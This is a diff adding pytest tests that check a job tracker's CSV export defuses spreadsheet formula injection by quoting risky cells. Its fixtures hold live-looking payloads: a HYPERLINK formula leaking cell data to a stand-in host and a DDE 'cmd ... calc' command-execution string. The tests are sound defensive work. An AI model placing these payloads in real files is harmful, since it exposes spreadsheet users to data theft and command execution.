@@ -5,7 +5,12 @@ import pytest
 
 from accounts.services import user_data_export
 from config.timezones import user_timezone
-from tests.factories import ApplicationFactory, InterviewFactory
+from tests.factories import (
+    ApplicationFactory,
+    CompanyFactory,
+    InterviewFactory,
+    PostingFactory,
+)
 from tracking.applications import services
 from tracking.models import StageChange
 
@@ -84,3 +89,48 @@ def test_account_data_export_includes_the_whole_tracker(user, journey):
         assert data.get(label), label
     assert len(data["tracking.stagechange"]) == 6
     assert data["tracking.note"][0]["body"] == "Prepared a *demo*"
+
+
+EVIL_COMPANY = '=HYPERLINK("https://evil.test/?leak="&B2&C3,"Evil Co")'
+
+
+def test_export_defuses_spreadsheet_formulas_in_every_text_cell(owner_client, user):
+    """Issue 16, point 2: an employer's company name reached the job seeker's CSV as a live
+    formula. Every text cell starting with = + - @ tab or CR gets a leading quote."""
+    posting = PostingFactory(company=CompanyFactory(name=EVIL_COMPANY), title="+1 Engineer")
+    app, _ = services.application_create_from_posting(user=user, posting=posting)
+    services.application_update(
+        application=app,
+        salary_expectation="-5000",
+        resume_version="@SUM(A1:A9)",
+        cover_letter_version="\tcmd",
+        next_action="\r=1+1",
+    )
+    stage = services.stage_create(user=user, name="-2+3+cmd|' /C calc'!A0")
+    services.application_move(application=app, stage=stage, by=user)
+
+    data = rows(owner_client.get("/applications/export/applications.csv"))
+    row = data[0]
+    assert row["company"] == "'" + EVIL_COMPANY
+    assert row["title"] == "'+1 Engineer"
+    assert row["salary_expectation"] == "'-5000"
+    assert row["resume_version"] == "'@SUM(A1:A9)"
+    assert row["cover_letter_version"] == "'\tcmd"
+    assert row["next_action"] == "'\r=1+1"
+    assert row["stage"] == "'-2+3+cmd|' /C calc'!A0"
+    assert row["id"] == str(app.pk)  # numbers stay numbers
+    assert row["posting_id"] == str(posting.pk)
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+
+    changes = rows(owner_client.get("/applications/export/stage-changes.csv"))
+    assert {r["company"] for r in changes} == {"'" + EVIL_COMPANY}
+    assert changes[-1]["to_stage"] == "'-2+3+cmd|' /C calc'!A0"
+
+
+def test_plain_text_and_numbers_are_written_as_they_are():
+    from config.csvsafe import safe_cell
+
+    assert safe_cell("Acme, Inc.") == "Acme, Inc."
+    assert safe_cell("a=b") == "a=b"  # only the first character matters
+    assert safe_cell(-3) == -3 and safe_cell(None) == ""
+    assert safe_cell("-3") == "'-3"  # typed text is text, even when it looks like a number
